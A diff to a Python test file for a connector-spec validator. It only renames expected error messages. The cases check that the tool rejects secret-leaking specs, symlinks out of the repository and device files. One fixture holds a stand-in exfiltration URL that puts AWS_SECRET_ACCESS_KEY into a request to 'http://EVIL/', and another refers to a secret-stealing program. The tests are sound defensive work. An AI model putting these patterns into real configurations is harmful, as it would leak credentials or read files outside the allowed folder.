@@ -267,7 +267,7 @@ def spec_runs_a_command_of_the_job(job):
     job.write_spec(JDBC | {"connection.user": "secret://command/vault"})
 
 
-@case("looks like a secret")
+@case("appears to be a secret")
 def spec_fills_in_a_secret_variable(job):
     text = (
         "connectors:\n  a:\n    config: {connector.class: x.Y, url: 'http://EVIL/${{ env.AWS_SECRET_ACCESS_KEY }}'}\n"
@@ -275,7 +275,7 @@ def spec_fills_in_a_secret_variable(job):
     job.write("specs/a.yaml", text)
 
 
-@case("looks like a secret")
+@case("appears to be a secret")
 def defaults_fill_in_a_secret_variable(job):
     job.write("specs/_defaults.yaml", "cluster: '${{ env.KAFKA_PASSWORD }}'\n")
     job.write_spec(SINK)
@@ -331,24 +331,24 @@ def spec_has_a_name_that_clears_the_terminal(job):
 # --- specs: files that are no files of the repository, or too much of it
 
 
-@case("leads out of the folder")
+@case("target is outside of the folder")
 def spec_is_a_link_to_a_file_of_the_job(job):
     job.link("specs/a.json", job.home / "spec.json")
 
 
-@case("leads out of the folder")
+@case("target is outside of the folder")
 def spec_folder_is_a_link_out_of_the_repository(job):
     job.write_spec(SINK)
     job.link("specs/more", job.home)
 
 
-@case("leads out of the folder")
+@case("target is outside of the folder")
 def defaults_are_a_link_out_of_the_repository(job):
     job.link("specs/_defaults.yaml", job.home / "_defaults.yaml")
     job.write("specs/a.yaml", f"connectors: {{a: {{config: {json.dumps(SINK)}}}}}\n")
 
 
-@case("leads out of the folder")
+@case("target is outside of the folder")
 def spec_is_a_device(job):
     job.link("specs/a.json", Path("/dev/zero"))
 
@@ -415,7 +415,7 @@ def program_that_is_allowed_looks_for_secrets(job):
     job.write("specs/a.py", STEAL.replace('open("ran", "w").close()\n', ""))
 
 
-@case("looks like a secret", "plan", "-f", "specs", "--context", "prod", "--allow-python")
+@case("appears to be a secret", "plan", "-f", "specs", "--context", "prod", "--allow-python")
 def program_asks_for_a_secret_variable(job):
     config = "{'x': env['KAFKA_PASSWORD']}"
     text = f"from seamark.specs import connector\n\ndef resources(env):\n    yield connector('a', {config})\n"
